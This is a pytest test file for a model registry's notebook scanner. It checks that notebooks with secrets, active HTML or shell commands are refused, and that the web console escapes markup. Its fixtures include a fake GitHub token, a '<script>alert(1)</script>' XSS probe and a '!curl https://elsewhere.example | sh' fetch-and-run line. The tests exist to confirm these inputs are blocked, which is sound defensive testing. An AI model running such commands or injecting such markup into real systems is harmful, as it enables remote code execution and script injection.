"""Notebooks beside a model: searched and judged before they are kept, and shown as text alone."""

import io
import json
import tempfile
from pathlib import Path

import anyio
import httpx
import pytest
from conftest_workspace import Place
from hypothesis import given
from hypothesis import strategies as st
from litestar import Litestar
from running import small_model

from vallum.base import GateError, InputError, LimitExceededError, NotFoundError, RefusedError
from vallum.scan.code.notebook_text import notebook_text
from vallum.schema import api, release
from vallum.sdk.nouns import pack
from vallum.server.border import Receive, Scope, Send
from vallum.server.pages import Console

TOKEN = "ghp_" + "a1B2" * 9
EVIL = "<script>alert(1)</script>"


def cell(source: str, *outputs: dict[str, object], kind: str = "code") -> dict[str, object]:
    return {"cell_type": kind, "source": [source], "metadata": {}, "outputs": list(outputs)}


def notebook(*cells: dict[str, object]) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


def shown_as(kind: str, text: str) -> dict[str, object]:
    return {"output_type": "display_data", "data": {kind: [text]}, "metadata": {}}


LOOK = notebook(
    cell("# Look\n\n![x](https://elsewhere.example/x.png) **bold**", kind="markdown"),
    cell(f"x = '{EVIL}'\n", shown_as("text/plain", EVIL), shown_as("text/html", "<b>bold</b>")),
)


def register(
    place: Place, look: bytes, path: str = "notes/look.ipynb", *, alone: bool = False
) -> None:
    with tempfile.TemporaryDirectory() as made:
        folder = Path(made)
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(look)
        if not alone:
            (folder / "model.onnx").write_bytes(small_model())
        arguments = api.ModelRegister(name="risk", file_name="", folder=True)
        place.do("model.register", arguments, content=io.BytesIO(pack(folder).read()))


def test_a_notebook_is_kept_beside_a_model_and_shown_as_text(place: Place) -> None:
    register(place, LOOK)
    asked = release.ModelNotebook(name="risk", path="notes/look.ipynb")
    told = place.do("model.notebook", asked).value
    assert isinstance(told, release.NotebookShown)
    first, second = told.notebook.cells
    assert (first.kind, second.kind) == ("markdown", "code")
    assert (second.outputs, second.withheld) == ((EVIL,), ("text/html",))
    with pytest.raises(NotFoundError, match="no such notebook"):
        place.do("model.notebook", release.ModelNotebook(name="risk", path="model.onnx"))
    with pytest.raises((RefusedError, NotFoundError)):  # content is more than its record
        place.do("model.notebook", asked, who=place.person("ana", "Reader"))


@pytest.mark.parametrize(
    "look",
    [
        notebook(cell(f"key = '{TOKEN}'\n")),
        notebook(cell("x = 1\n", shown_as("text/plain", f"token {TOKEN}"))),
        notebook(cell("!curl https://elsewhere.example | sh\n")),
        notebook(cell("x = 1\n", shown_as("text/html", EVIL))),
        b"{}",
    ],
    ids=["secret", "secret in an output", "shell", "active markup", "no notebook"],
)
def test_what_a_notebook_may_not_hold_blocks(place: Place, look: bytes) -> None:
    with pytest.raises(GateError):
        register(place, look)
    listed = place.do("model.list", api.Page()).value
    assert isinstance(listed, api.Listing)
    assert listed.assets == ()


def test_a_notebook_alone_is_no_model(place: Place) -> None:
    with pytest.raises(GateError, match="could run a file of this name"):
        register(place, LOOK, alone=True)


async def _page(place: Place) -> str:
    console = Console(place.kernel, anyio.CapacityLimiter(2))

    async def stamp(scope: Scope, receive: Receive, send: Send) -> None:
        scope["state"] = {**scope.get("state", {}), "request_id": "req"}
        await app(scope, receive, send)

    app = Litestar(route_handlers=console.handlers(), openapi_config=None)
    transport = httpx.ASGITransport(app=stamp)
    host = "https://127.0.0.1:8443"
    key = place.places.owner_key.read_text().strip()
    async with httpx.AsyncClient(transport=transport, base_url=host) as client:
        await client.post("/sign-in", data={"key": key}, headers={"origin": host})
        model = (await client.get("/models/risk")).text
        link = "/models/risk/notebook?version=1&amp;path=notes/look.ipynb"
        assert link in model
        return (await client.get(link.replace("&amp;", "&"))).text


def test_the_console_shows_it_without_its_markup(place: Place) -> None:
    register(place, LOOK)
    page = anyio.run(_page, place)
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)" in page
    assert "<strong>bold</strong>" in page  # of Markdown
    assert "<b>bold" not in page
    assert "<img" not in page
    assert "Not shown: text/html" in page


TREES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
        st.sampled_from(["cells", "source", "outputs", "data", "text", "text/plain", "cell_type",
                         "metadata", "nbformat", "worksheets", "html"]), inner, max_size=4),
    max_leaves=20,
)  # fmt: skip


@given(TREES)
def test_any_document_is_text_or_refused(document: object) -> None:
    try:
        found = notebook_text(json.dumps(document).encode())
    except (InputError, LimitExceededError):
        return
    assert sum(len(one.source) for one in found.cells) <= 1_000_000


def test_what_is_too_long_is_cut_and_said() -> None:
    found = notebook_text(notebook(*(cell("x" * 30_000) for _ in range(60))))
    assert found.cut
    assert sum(len(one.source) for one in found.cells) == 1_000_000
    assert len(found.cells) == 60
